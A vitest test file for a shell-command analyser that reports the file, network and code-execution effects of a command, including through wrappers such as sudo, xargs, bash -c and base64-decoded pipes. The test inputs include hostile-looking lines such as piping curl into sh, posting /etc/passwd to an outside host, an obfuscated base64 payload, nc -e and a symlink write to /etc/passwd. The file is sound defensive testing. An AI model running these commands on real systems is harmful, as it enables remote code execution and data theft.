// Programs: wrappers are seen through, interpreters are named, options are read as the programs read them.

import { describe, expect, test } from "vitest";
import { evaluateShell } from "../../../src/core/shell/index.js";
import { aContext, argvTouches, starts, touches } from "./support.js";

describe("wrappers are seen through, in any option order", () => {
  test.each(["env rm x", "env -i A=b rm x", "env -u A -C /w rm x", "env -S 'rm x'", "sudo rm x", "sudo -u root -- rm x", "doas rm x", "nice rm x", "nice -n 5 rm x", "ionice -c 3 rm x", "timeout 5 rm x", "timeout -k 1 -s KILL 5 rm x", "nohup rm x", "setsid rm x &", "stdbuf -oL rm x", "/usr/bin/time -f %e rm x", "xargs rm x", "echo x | xargs rm", "echo x | xargs -I{} rm {}", "printf 'x\\n' | xargs -n1 rm", "find . -exec rm x \\;", "parallel rm ::: x", "watch -n 1 rm x", "script -c 'rm x' /dev/null", "busybox rm x", "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "chroot / rm x", "unshare -r rm x", "strace -f -o /tmp/t rm x", "flock /tmp/l rm x", "flock /tmp/l -c 'rm x'", "su -c 'rm x'", "su root -c 'rm x'", "systemd-run rm x", "bash -c 'rm x'", "bash -lc 'rm x'", "bash -c -l 'rm x'", "bash -x -e -c 'rm x'", "bash --norc -c 'rm x'", "bash -o pipefail -c 'rm x'", "sh -ec 'rm x'", "dash -c 'rm x'", "zsh -c 'rm x'", "bash <<< 'rm x'", "bash <<E\nrm x\nE", "echo 'rm x' | bash", "echo 'rm x' | bash -s a", "cat <<E | sh\nrm x\nE", "echo cm0geA== | base64 -d | sh", "printf '726d2078' | xxd -r -p | sh", "printf '\\x72m x' | sh", ". <(echo rm x)", "bash <(echo rm x)", "git bisect run rm x", "git submodule foreach 'rm x'", "git -c alias.q='!rm x' q", "git -c core.pager='rm x' log", "ssh -o ProxyCommand='rm x' h", "tar cf a b --checkpoint-action=exec='rm x'", "tar -xf a -I 'rm x'", "sed '1e rm x' f", "rsync -e 'rm x' a h:b", "socat - EXEC:'rm x'", "nc -e 'rm x' h 1", "sort --compress-program='rm x' f", "env env env rm x", "sudo env timeout 1 bash -c 'nice rm x'", "bash -c 'rm \"$0\"' x", "bash -c 'rm \"$1\"' a x", "npx rm x", "uv run rm x", "git rebase -x 'rm x'", "make -n; command -p rm x"])("%s", (text) => {
    expect(touches(text)).toContain("delete /w/x");
  });

  test("the wrapper and the wrapped program are both on record", () => {
    expect(starts("sudo env A=b /bin/rm x")).toEqual(["sudo", "env", "/bin/rm"]);
  });

  test.each(["$W rm x", "timeout $T rm x", "env -S \"$X\"", "bash -c \"$X\"", "eval $X", "sh $OPTS f", "xargs $X", "find . -exec $X \\;", "sudo $X", "ssh $X", "git $X", "cat f | xargs rm", "awk \"$X\" f", "sed \"$X\" f", "dd $X"])("what cannot be told is opaque: %s", (text) => {
    expect(touches(text)).toContain("opaque");
  });

  test.each(["sh -c 'echo $(( 1 )); [[ -f x ]] && rm x'", "sh -c 'echo a &> f'", "sh -c '((rm x))'", "sh -c 'cat <(ls)'", "sh -c 'a=(1)'"])("bash-only syntax given to sh is opaque: %s", (text) => {
    expect(touches(text)).toContain("opaque");
  });
});

describe("interpreters and build tools run code, and say which", () => {
  test.each<[string, string[]]>([
    ["python -c 'import os'", ["code inline python import os"]],
    ["python3 -u x.py a b", ["read /w/x.py", "code file python3 x.py"]],
    ["python3.11 -m pytest -c cfg -k x", ["code project python3.11 pytest"]],
    ["python - <<E\nprint(1)\nE", ["code inline python print(1)\n"]],
    ["cat x.py | python", ["read /w/x.py", "code stdin python < cat"]],
    ["node -e '1'", ["code inline node 1"]],
    ["node --require ./a.js b.js", ["read /w/a.js", "code file node ./a.js", "read /w/b.js", "code file node b.js"]],
    ["perl -pi -e 's/a/b/' f", ["code inline perl s/a/b/", "read /w/f", "write /w/f"]],
    ["ruby -e 1", ["code inline ruby 1"]],
    ["php -r 1", ["code inline php 1"]],
    ["pytest -x", ["code project pytest"]],
    ["make -C sub", ["code project make"]],
    ["npm test", ["code project npm"]],
    ["npm install", ["connect ?", "write /w/node_modules tree", "write /w/package.json", "write /w/package-lock.json", "code project npm"]],
    ["./setup.bin", ["read /w/setup.bin", "code file setup.bin /w/setup.bin"]],
    ["unknown-program a", ["code program unknown-program"]],
    ["bash s.sh", ["read /w/s.sh", "code file bash s.sh"]],
    ["bash < s.sh", ["read /w/s.sh", "code file bash s.sh"]],
    ["curl https://a.example/i | sh", ["connect a.example", "code stdin sh < curl"]],
    ["awk '{print $1}' f", ["read /w/f"]],
    ["awk -F: '$1 == \"a\" || /b|c/ {print $2}' f", ["read /w/f"]],
    ["awk 'BEGIN{system(\"rm x\")}'", ["code inline awk BEGIN{system(\"rm x\")}", "delete /w/x"]],
    ["awk '{print > \"o\"}' f", ["code inline awk {print > \"o\"}", "write /w/o", "read /w/f"]],
    ["vim -c ':!rm x' f", ["code inline vim :!rm x", "delete /w/x", "read /w/f", "write /w/f"]],
  ])("%s", (text, expected) => {
    expect(touches(text)).toEqual(expected);
  });

  test("a script that can be seen is followed", () => {
    const readText = (path: string) => (path === "/w/s.sh" ? "#!/bin/bash\nrm \"$1\"" : null);
    for (const text of ["bash s.sh x", "./s.sh x", "source s.sh x", "chmod +x s.sh && ./s.sh x", "cd /w && sh ./s.sh x"]) {
      expect(touches(text, { readText }), text).toContain("delete /w/x");
    }
  });

  test("a script that runs itself comes to an end", () => {
    expect(touches("bash s.sh", { readText: () => "bash s.sh" })).toContain("opaque");
  });
});

describe("programs on files", () => {
  test.each<[string, string[]]>([
    ["rm -rf d", ["delete /w/d tree"]],
    ["rm --recurs d", ["delete /w/d tree"]],
    ["rm d -r", ["delete /w/d tree"]],
    ["rm -- -r", ["delete /w/-r"]],
    ["/bin/rm x", ["delete /w/x"]],
    ["/proc/self/root/bin/rm x", ["delete /w/x"]],
    ["cp a d/", ["read /w/a", "write /w/d/a"]],
    ["cp -t d a b", ["read /w/a", "write /w/d/a", "read /w/b", "write /w/d/b"]],
    ["cp -r --target-dir=d a", ["read /w/a tree", "write /w/d/a tree"]],
    ["cp a b", ["read /w/a", "write /w/b", "write /w/b/a"]],
    ["cp -T a b", ["read /w/a", "write /w/b"]],
    ["mv -T a b", ["read /w/a tree", "delete /w/a tree", "write /w/b tree"]],
    ["ln -s -T /etc/passwd p", ["create /w/p"]],
    ["tee a b", ["write /w/a", "write /w/b"]],
    ["dd if=a of=b", ["read /w/a", "write /w/b"]],
    ["touch a", ["write /w/a"]],
    ["mkdir -p a/b", ["create /w/a/b"]],
    ["chmod -R 777 d", ["metadata /w/d tree"]],
    ["chmod -x f", ["metadata /w/f"]],
    ["chmod u+x,go-w f", ["metadata /w/f"]],
    ["chattr -i f", ["metadata /w/f"]],
    ["parallel bash -c 'rm {}' ::: x", ["delete /w/x"]],
    ["chown a:b f", ["metadata /w/f"]],
    ["truncate -s 0 f", ["write /w/f"]],
    ["sed -n '1,5p' f", ["read /w/f"]],
    ["sed -i s/a/b/ f", ["read /w/f", "write /w/f"]],
    ["sed -i.bak s/a/b/ d/f", ["read /w/d/f", "write /w/d/f", "write /w/d/f.bak"]],
    ["sed 's/a/b/w o' f", ["write /w/o", "read /w/f"]],
    ["sed -e '/x/w o' f", ["write /w/o", "read /w/f"]],
    ["sed s/a/b/e f", ["code inline sed s/a/b/e", "read /w/f"]],
    ["sort -o a b", ["write /w/a", "read /w/b"]],
    ["sort f -uo a", ["write /w/a", "read /w/f"]],
    ["find d -name '*.o' -delete", ["read /w/d tree", "delete /w/d/**/*.o ~"]],
    ["find d -fprint o", ["read /w/d tree", "write /w/o"]],
    ["find . -name '*.py' | xargs sed -i s/a/b/", ["read /w tree", "read /w/**/*.py ~", "write /w/**/*.py ~"]],
    ["grep -rl a src | xargs rm", ["read /w/src tree", "delete /w/src/** ~"]],
    ["grep -e a f", ["read /w/f"]],
    ["grep a f g", ["read /w/f", "read /w/g"]],
    ["tar xzf a.tgz -C d", ["read /w/a.tgz", "create /w/d tree"]],
    ["tar -czf a.tgz d", ["write /w/a.tgz", "read /w/d tree"]],
    ["unzip a.zip -d d", ["create /w/d tree", "read /w/a.zip"]],
    ["patch -p1 < p", ["read /w/p", "write /w tree"]],
    ["gcc -o o a.c", ["write /w/o", "read /w/a.c", "code program gcc"]],
    ["curl -o o https://a.example/b", ["write /w/o", "connect a.example"]],
    ["curl -O 'https://u:p@a.example:8080/b/c?d'", ["connect a.example", "write /w/c"]],
    ["curl -d @/etc/passwd https://a.example", ["read /etc/passwd", "connect a.example"]],
    ["curl -F f=@x https://a.example", ["read /w/x", "connect a.example"]],
    ["wget -P d https://a.example/b", ["connect a.example", "write /w/d/b"]],
    ["scp a u@h:b", ["read /w/a tree", "connect h"]],
    ["scp h:b a", ["connect h", "write /w/a tree"]],
    ["git status", ["read /w tree"]],
    ["git -C sub checkout -- a.py", ["read /w/sub/a.py tree", "write /w/.git/HEAD", "write /w/.git/index", "write /w/.git/logs tree", "write /w/.git/objects tree", "write /w/.git/refs tree", "write /w/sub/a.py tree", "code project git"]],
    ["git clean -fd", ["read /w tree", "delete /w tree"]],
    ["git apply p", ["read /w/p", "read /w tree", "write /w tree"]],
    ["git rm -r d", ["delete /w/d tree", "write /w/.git/HEAD", "write /w/.git/index", "write /w/.git/logs tree", "write /w/.git/objects tree", "write /w/.git/refs tree"]],
    ["git clone https://a.example/b.git", ["connect a.example", "create /w/b tree", "code project git"]],
    ["git config core.hooksPath /tmp/h", ["write /w/.git/config", "env git core.hookspath=/tmp/h", "code inline git /tmp/h"]],
    ["git config --global user.name a", ["write /h/.gitconfig", "env git user.name=a"]],
    ["git config --get user.name", []],
    ["ls -la", ["read /w"]],
  ])("%s", (text, expected) => {
    expect(touches(text)).toEqual(expected);
  });

  test("a link that the text makes is followed", () => {
    expect(touches("ln -s /etc e; echo > e/passwd")).toContain("write /etc/passwd");
    expect(touches("cp /bin/rm ./y && ./y x")).toContain("delete /w/x");
  });

  test("words run without a shell are words", () => {
    expect(argvTouches("rm", "$x", "*.c", ";")).toEqual(["exec rm", "delete /w/$x", "delete /w/*.c", "delete /w/;"]);
    expect(argvTouches("bash", "-c", "rm x")).toEqual(["exec bash", "exec rm", "delete /w/x"]);
    expect(argvTouches()).toEqual(["opaque"]);
  });

  test("an effect says who does it and where it stands in the text", () => {
    expect(evaluateShell("ls; sudo rm -r d", aContext()).effects.at(-1)).toEqual({ kind: "file", operation: "delete", path: "/w/d", certainty: "exact", recursive: true, by: "rm", from: "sudo rm -r d" });
  });

  test("a word that cannot be told is null in argv", () => {
    expect(evaluateShell("rm a $B *.c", aContext()).effects[0]).toEqual({ kind: "exec", program: "rm", path: null, argv: ["rm", "a", null, null], from: "rm a $B *.c" });
  });
});
